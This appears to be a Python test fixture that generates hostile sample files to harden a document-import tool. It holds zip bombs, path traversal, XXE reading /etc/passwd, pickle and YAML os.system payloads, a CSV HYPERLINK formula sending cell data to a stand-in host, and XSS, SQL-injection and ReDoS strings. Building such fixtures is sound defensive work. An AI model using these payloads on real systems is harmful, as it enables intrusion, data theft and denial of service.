"""The files of the shared list of hostile cases, by their names there, with the same bytes on every run."""

from __future__ import annotations

import io
import struct
import zipfile
from typing import TYPE_CHECKING

import numpy as np
from small_files import (
    OFFICE,
    PACKAGE,
    make_docx,
    make_epub,
    make_odt,
    make_zip,
    paragraph,
    word_xml,
)

if TYPE_CHECKING:
    from collections.abc import Callable

OUT_OF_IT = "../../../../../../tmp/qualcase-PWNED"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_CHAIN = zip("abcdefgh", "bcdefghi", strict=True)
DOCTYPES = {
    "billion_laughs": "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {after} '{f'&{before};' * 10}'>" for before, after in _CHAIN)
    + "]>",
    "quadratic": f"<!DOCTYPE l [<!ENTITY i '{'x' * 50_000}'>]>",
    "xxe_file": '<!DOCTYPE l [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
    "xxe_http": '<!DOCTYPE l [<!ENTITY i SYSTEM "http://127.0.0.1:9/x">]>',
    "xxe_param": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
}
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'


def word_with(doctype: str) -> bytes:
    said = "x" if doctype == "xxe_param" else "&i;" * (2_000 if doctype == "quadratic" else 1)
    return make_docx(word_xml(paragraph(said), DOCTYPES[doctype]))


def text_with(doctype: str) -> bytes:
    return make_odt(f"<t:p>{'x' if doctype == 'xxe_param' else '&i;'}</t:p>", DOCTYPES[doctype])


def make_qdpx(inner: str = "", before: str = "", *more: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
    """Return a project for exchange that has one code, one text, and what else it is given."""
    codes = '<CodeBook><Codes><Code guid="c1" name="Trust" isCodable="true"/></Codes></CodeBook>'
    return make_zip(
        (
            "project.qde",
            f'{before}<Project xmlns="urn:QDA-XML:project:1.0" name="x">{codes}{inner}</Project>',
        ),
        ("sources/s1.txt", "We met."),
        *more,
    )


def sources(path: str = "internal://s1.txt", guid: str = "s1", inner: str = "") -> str:
    return (
        f'<Sources><TextSource guid="{guid}" name="a" plainTextPath="{path}">{inner}</TextSource></Sources>'
    )


def qdpx_with(doctype: str) -> bytes:
    said = "x" if doctype == "xxe_param" else "&i;"
    return make_qdpx(f"{sources()}<Description>{said}</Description>", DOCTYPES[doctype])


def link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    return info


def encrypted(data: bytes) -> bytes:
    """Say of every member that it is encrypted."""
    changed = bytearray(data)
    for signature, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(signature)
        while place >= 0:
            changed[place + flag] |= 1
            place = changed.find(signature, place + 4)
    return bytes(changed)


def overlapping(data: bytes, kernel: str, times: int) -> bytes:
    """Add entries to the table of contents that all point at the bytes of one member."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        many, place = len(archive.infolist()), archive.start_dir
    table, end = data[place:-22], data[-22:]
    start = table.index(kernel.encode()) - 46
    row = bytearray(table[start : start + 46])
    struct.pack_into("<HHH", row, 28, 9, 0, 0)
    more = b"".join(bytes(row) + b"copy%05d" % number for number in range(times))
    total = many + times
    return (
        data[:place]
        + table
        + more
        + end[:8]
        + struct.pack("<HHI", total, total, len(table + more))
        + end[16:]
    )


def nested_bomb() -> bytes:
    inner = make_zip(("zeros.bin", b"\0" * 10_000_000))
    for _ in range(4):
        inner = make_zip(*((f"{number}.zip", inner) for number in range(10)))
    return make_zip(("a.zip", inner))


def deep_tree() -> bytes:
    levels = 20_000
    opened = "".join(f'<Code guid="{level}" name="{level}">' for level in range(levels))
    return make_qdpx(f"<CodeBook><Codes>{opened}{'</Code>' * levels}</Codes></CodeBook>")


def remote_template() -> bytes:
    outside = (
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" '
        'TargetMode="External"/>'
    )
    listed = f'<Relationships xmlns="{PACKAGE}/relationships">{outside}</Relationships>'
    return make_docx(word_xml(paragraph("hello")), ("word/_rels/document.xml.rels", listed))


def objects_array() -> bytes:
    """Return an array that, unpickled by whoever trusts it, would write a file."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    head = np.lib.format.magic(1, 0) + struct.pack("<H", len(header) + 1) + header + b"\n"
    return head + b"cposix\nsystem\n(S'touch /tmp/qualcase-PWNED'\ntR."


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "docx/zipbomb_200MB_document.docx": lambda: make_docx(word_xml(paragraph(" " * 200_000_000))),
    "docx/zipbomb_many_entries.docx": lambda: make_docx(
        word_xml(paragraph("ok")), *((f"e/{number}", b"") for number in range(20_000))
    ),
    "qdpx/nested_bomb.qdpx": nested_bomb,
    "epub/overlap_bomb.epub": lambda: overlapping(
        make_epub("<p>x</p>", ("kernel.bin", b"0" * 5_000_000)), "kernel.bin", 300
    ),
    "qdpx/traversal_dotdot.qdpx": lambda: make_qdpx(sources(), "", (OUT_OF_IT, "pwned")),
    "qdpx/traversal_ads.qdpx": lambda: make_qdpx(sources(), "", ("sources/s1.txt:evil", "pwned")),
    "qdpx/symlink_entry.qdpx": lambda: make_qdpx(
        sources("internal://s2.txt"), "", (link("sources/s2.txt"), "/etc/passwd")
    ),
    "qdpx/internal_source_path_escape.qdpx": lambda: make_qdpx(sources("internal://../../../etc/passwd")),
    "qdpx/dup_guid.qdpx": lambda: make_qdpx(sources(guid="c1")),
    "qdpx/span_out_of_range.qdpx": lambda: make_qdpx(
        sources(
            inner='<PlainTextSelection guid="p1" startPosition="-5" endPosition="9223372036854775808">'
            '<Coding guid="k1"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection>'
        )
    ),
    "qdpx/deep_code_tree.qdpx": deep_tree,
    "docx/not_a_zip.docx": lambda: OLE + b"\0" * 2000,
    "docx/encrypted_flag.docx": lambda: encrypted(make_docx(word_xml(paragraph("ok")))),
    "docx/zip_prefix_polyglot.docx": lambda: (
        b"#!/bin/sh\ntouch /tmp/qualcase-PWNED\n" + make_docx(word_xml(paragraph("ok")))
    ),
    **{f"docx/xml_{doctype}.docx": lambda doctype=doctype: word_with(doctype) for doctype in DOCTYPES},
    **{
        f"odt/xml_{doctype}.odt": lambda doctype=doctype: text_with(doctype)
        for doctype in ("billion_laughs", "xxe_http", "xxe_param")
    },
    **{
        f"qdpx/xml_{doctype}.qdpx": lambda doctype=doctype: qdpx_with(doctype)
        for doctype in ("billion_laughs", "xxe_file", "xxe_http", "xxe_param")
    },
    "docx/xml_xinclude.docx": lambda: make_docx(word_xml(f"<w:p><w:r><w:t>hello{INCLUDE}</w:t></w:r></w:p>")),
    "docx/external_template.docx": remote_template,
    "docx/deep_nesting.docx": lambda: make_docx(word_xml("<w:p>" * 100_000 + "</w:p>" * 100_000)),
    "odt/mimetype_mismatch.odt": lambda: make_odt("<t:p>x</t:p>", mimetype="application/zip"),
    "epub/script.epub": lambda: make_epub("<p>x</p>", href="../../../../etc/passwd"),
}
TEXTS: dict[str, bytes] = {
    "txt/esc_osc52.txt": b"\x1b]52;c;ZWNobyBwd25lZA==\x07 hello",
    "txt/esc_title_report.txt": b"\x1b]0;title\x07\x1b[21t\x1b[6n\x05 hello",
    "txt/esc_hyperlink.txt": b"\x1b]8;;http://x\x07link\x1b]8;;\x07 hello",
    "txt/rich_markup.txt": b"[bold red]hello[/] [@click=app.quit]y[/] [/nope] [link=file:///etc/passwd]z[/link]",
    "txt/backspace_overwrite.txt": b"safe\b\b\b\bevil\rEVIL hello\n",
    "txt/nul_bytes.txt": b"abc\0def\n" * 100,
    "txt/zalgo.txt": ("o" + "\u0301" * 50_000).encode(),
    "txt/-rf.txt": b"x",
    "txt/evil\nname\x1b[2J.txt": b"x",
    "txt/lone_surrogate.json": b'{"name": "\\ud800"}',
    "txt/deep.json": b"[" * 100_000 + b"]" * 100_000,
    "txt/bigint.json": b'{"start":' + b"9" * 10_000 + b"}",
    "txt/nan.json": b'{"start":NaN,"end":Infinity}',
    "csv/unclosed_quote.csv": b'speaker,text\nA,"' + b"x,y\n" * 2246,
    "txt/homoglyph_code.csv": "code\ngovernance\ngovern\u0430nce\nfund\u200bing\n".encode(),
    "txt/nfc_nfd.csv": "code\ncaf\u00e9\ncafe\u0301\n".encode(),
    "csv/formula_eq.csv": b'code,definition\n"=HYPERLINK(""http://e.test?""&A1,""x"")",text\n',
    "csv/formula_plus.csv": b"code,definition\n+1+cmd|' /C calc'!A0,text\n",
    "csv/formula_at.csv": b"code,definition\n@SUM(1+1),text\n",
    "html/inject_script.txt": b"<script>alert(1)</script>\n",
    "html/inject_img.txt": b"<img src=x onerror=alert(1)>\n",
    "html/inject_svg.txt": b"<svg onload=alert(1)>\n",
    "html/inject_closing.txt": b"</td></table></style></script><b>x\n",
    "html/inject_css.txt": b"}</style><style>*{background:url(https://e.test/x)}\n",
    "html/inject_jinja.txt": b"{{7*7}}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "html/inject_tmpl.txt": b"${7*7}#{7*7}\n",
    "html/inject_ls.txt": "\u2028alert(1)\u2029\n".encode(),
    "query/fts_col.txt": b"text:x OR a:b\n",
    "query/fts_caret.txt": b'^"a" ^b*\n',
    "query/fts_many.txt": b" OR ".join([b"a*"] * 10_000),
    "query/sql.txt": b"'; DROP TABLE coding; --",
    "query/like_wild.txt": b"%_" * 2000,
    "query/redos_nested.txt": b"(a+)+$\n" + b"a" * 40 + b"!",
    "query/redos_alt.txt": b"(a|aa)+$\n" + b"a" * 38 + b"!",
    "query/redos_dotstar.txt": b"(.*)*,(.*)*;\n" + b"a" * 79,
    "query/redos_back.txt": b"(a*)*\\1b\n" + b"a" * 4800,
    "yaml/unsafe_object.yaml": (
        b"codes:\n - name: !!python/object/apply:os.system ['touch /tmp/qualcase-PWNED']\n"
    ),
    "yaml/norway.yaml": b"codes:\n - name: no\n - name: 1e3\n - name: 2020-01-01\n",
    "yaml/recursive.yaml": b"codes: &a\n - name: x\n   children: *a\n",
    "yaml/dup_keys.yaml": b"codes:\n - name: a\n   name: b\n",
    "model/spacy_cfg.cfg": b'[nlp]\nlang = "en"\n[initialize]\n@callbacks = "os.system"\n',
}  # fmt: skip
HUGE: dict[str, Callable[[], bytes]] = {
    "txt/huge_line.txt": lambda: b"word " * 4_000_000,
    "txt/million_lines.txt": lambda: b"\n" * 1_000_000,
    "csv/field_10MB.csv": lambda: b'a,b\n1,"' + b"x" * 10_000_000 + b'"\n',
}
FILES: dict[str, Callable[[], bytes]] = {
    **ARCHIVES,
    **{name: lambda data=data: data for name, data in TEXTS.items()},
    **HUGE,
    "model/evil.npy": objects_array,
}
